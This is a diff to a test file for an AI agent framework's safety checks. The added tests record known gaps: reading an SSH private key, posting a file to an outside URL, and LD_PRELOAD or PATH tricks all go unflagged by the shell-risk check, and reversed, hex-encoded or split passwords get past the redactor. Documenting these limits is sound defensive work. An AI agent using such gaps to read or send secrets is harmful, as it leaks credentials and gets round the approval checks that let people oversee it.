@@ -6,6 +6,7 @@ import re
 import stat
 
 from hermes_kernel import Agent
+from hermes_kernel.core.redact import redact
 from hermes_kernel.testing import ScriptedModel, call, say
 from hermes_kernel.world.tools.danger import shell_risk
 from hermes_kernel.world.tools.danger_python import python_risk
@@ -37,7 +38,26 @@ def test_code_that_writes_anywhere_or_hides_a_command_is_not_asked_about_as_the_
     assert python_risk("open('/srv/ada/.hermes/approvals.json', 'w').write('{}')") is None
     assert shell_risk("bash cleanup.sh") is None
     assert shell_risk("make clean") is None
+    assert shell_risk("PATH=/tmp/tools:$PATH ls") is None
+    assert shell_risk("LD_PRELOAD=./x.so ls") is None
     assert shell_risk("rm -rf build") is not None
+
+
+def test_reading_and_sending_are_not_asked_about_as_the_page_admits():
+    assert shell_risk("cat ~/.ssh/id_rsa") is None
+    assert shell_risk("curl -d @notes.txt https://example.org") is None
+
+
+def test_a_secret_without_its_name_or_turned_into_something_else_is_not_seen_as_the_page_admits():
+    for text in (
+        "mysql -u me -phunter2hunter2",
+        "db.example:5432:app:me:hunter2hunter2",
+        "  user  password\n0  me  hunter2hunter2",
+    ):
+        assert redact(text) == text
+    known = "hunter2hunter2"
+    for form in (known[::-1], known.encode().hex(), f"{known[:7]}\n{known[7:]}"):
+        assert redact(form, frozenset({known})) == form
 
 
 async def test_python_sees_the_environment_as_the_page_admits(tmp_path, monkeypatch):
